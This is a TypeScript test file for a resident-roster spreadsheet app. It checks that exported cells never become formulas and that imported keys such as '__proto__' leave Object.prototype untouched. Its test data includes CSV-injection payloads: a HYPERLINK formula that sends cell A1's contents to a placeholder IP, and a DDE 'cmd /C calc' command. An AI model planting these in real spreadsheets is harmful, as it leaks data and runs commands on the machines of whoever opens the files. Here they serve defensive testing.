import { strFromU8, unzipSync } from 'fflate'
import { read } from 'xlsx'
import { describe, expect, it } from 'vitest'
import { readWorkbook } from '../../../src/renderer/adapters/sheet/read-workbook'
import { writeWorkbook } from '../../../src/renderer/adapters/sheet/write-workbook'
import { chooseSheet } from '../../../src/renderer/domain/roster/choose-sheet'
import { residentBook } from '../../../src/renderer/domain/roster/resident-book'
import { nobody } from '../../../src/renderer/domain/roster/known-people'
import { planRosterNow } from '../../../src/renderer/domain/roster/plan-roster'
import { rejectedSheet } from '../../../src/renderer/domain/roster/roster-sheet'
import { unwatched } from '../../../src/renderer/domain/progress'
import type { OutSheet } from '../../../src/renderer/domain/sheet/workbook'
import { apply } from '../../builders/an-import'

/** What spreadsheets take for the beginning of a formula (OWASP, CSV injection), and harmless text beside it. */
const hostile = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")',
  "=cmd|' /C calc'!A0",
  '+8613812341234',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
]

const sheet: OutSheet = {
  name: '=名单',
  title: '=1+1',
  note: '@用途',
  pageHead: '=1+1',
  pageFoot: '+1',
  columns: [{ heading: '=姓名', width: 10 }],
  rows: hostile.map(text => [text]),
  landscape: false,
}

describe('text that looks like a formula', () => {
  it('is only ever a text of the table of texts in a cell of the text format, never a formula', async () => {
    const parts = unzipSync(await writeWorkbook([sheet]))
    const xml = strFromU8(parts['xl/worksheets/sheet1.xml']!)
    expect(xml).not.toMatch(/<f[\s>/]/)
    const cells = [...xml.matchAll(/<c ([^>]*)>/g)].map(([, attributes = '']) => attributes)
    expect(cells).toHaveLength(hostile.length + 3)
    for (const attributes of cells) expect(attributes).toMatch(/ t="s"$/)
    for (const attributes of cells.slice(3)) expect(attributes).toMatch(/ s="1" /)
    expect(Object.keys(parts).filter(name => /calcChain|external|vba|connections/i.test(name))).toEqual([])
  })

  it('is read as text by SheetJS too, word for word but for line ends', async () => {
    const opened = read(await writeWorkbook([sheet]), { cellFormula: true, cellNF: true }).Sheets['=名单']!
    const cells: unknown[] = hostile.map((_, index) => opened[`A${index + 4}`] as unknown)
    expect(cells).toEqual(
      hostile.map(
        text => expect.objectContaining({ t: 's', v: text.replace('\r', '\n'), z: '@' }) as unknown,
      ),
    )
    for (const cell of cells) expect(cell).not.toHaveProperty('f')
  })

  it('comes back from an import and a list of refused rows as the same text', async () => {
    const csv = new TextEncoder().encode('姓名,联系电话,备注\n=1+1,+8613812341234,"@SUM(1)"\n,-2,=2\n')
    const plan = await planOfFile({ name: '名册.csv', bytes: csv })
    expect(plan.rows[0]?.facts).toMatchObject({ name: '=1+1', remarks: '@SUM(1)' })
    const xml = strFromU8(unzipSync(await writeWorkbook([rejectedSheet(plan)]))['xl/worksheets/sheet1.xml']!)
    expect(xml).not.toMatch(/<f[\s>/]/)
  })
})

async function planOfFile(file: { readonly name: string; readonly bytes: Uint8Array }) {
  const workbook = await readWorkbook(file, unwatched)
  if (!workbook.ok) throw new Error(workbook.problem.code)
  const chosen = chooseSheet(workbook.value, residentBook)
  if (!chosen.ok) throw new Error(chosen.problem.code)
  return planRosterNow({ fileName: file.name, chosen: chosen.value, known: nobody, today: '2026-11-22' })
}

describe('words that name the inside of every object', () => {
  const words = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf']
  const csv = [
    ['姓名', ...words, '性别', '证件类型', '民族', '与户主关系', '标签', '户号', '小区'].join(','),
    ...words.map(word => [`王${word}`, ...words, word, word, word, word, word, word, word].join(',')),
  ].join('\n')
  const file = { name: '__proto__.csv', bytes: new TextEncoder().encode(csv) }

  it('are headings and cells like any others: nothing breaks, nothing is taken for a fact of ours', async () => {
    const plan = await planOfFile(file)
    const unknown = plan.columns.filter(({ field }) => field === null).map(({ heading }) => heading)
    expect(unknown).toEqual(words)
    expect(plan.rows.map(({ facts }) => [facts.sex, facts.nation, facts.householdNo])).toEqual(
      words.map(word => [word, word, word]),
    )
  })

  it('go onto the records as words, and leave every other object as it was', async () => {
    const before = Reflect.ownKeys(Object.prototype)
    const { residents, houses } = apply(await planOfFile(file))
    expect(residents.map(({ sex }) => sex)).toEqual(words.map(text => ({ text })))
    expect(residents.map(({ tags }) => tags)).toEqual(words.map(name => [{ name }]))
    expect(houses.map(({ estate }) => estate)).toEqual(words)
    expect(Reflect.ownKeys(Object.prototype)).toEqual(before)
    for (const one of residents) expect(Object.getPrototypeOf(one)).toBe(Object.prototype)
  })

  it('may name sheets and stand in a workbook of ours', async () => {
    const named: OutSheet = {
      name: '__proto__',
      columns: words.map(heading => ({ heading, width: 10 })),
      rows: [words],
      landscape: false,
    }
    const workbook = await readWorkbook(
      { name: 'constructor', bytes: await writeWorkbook([named]) },
      unwatched,
    )
    expect(workbook.ok && workbook.value.sheets).toMatchObject([
      { name: '__proto__', rows: [{ cells: words }, { cells: words }] },
    ])
  })
})
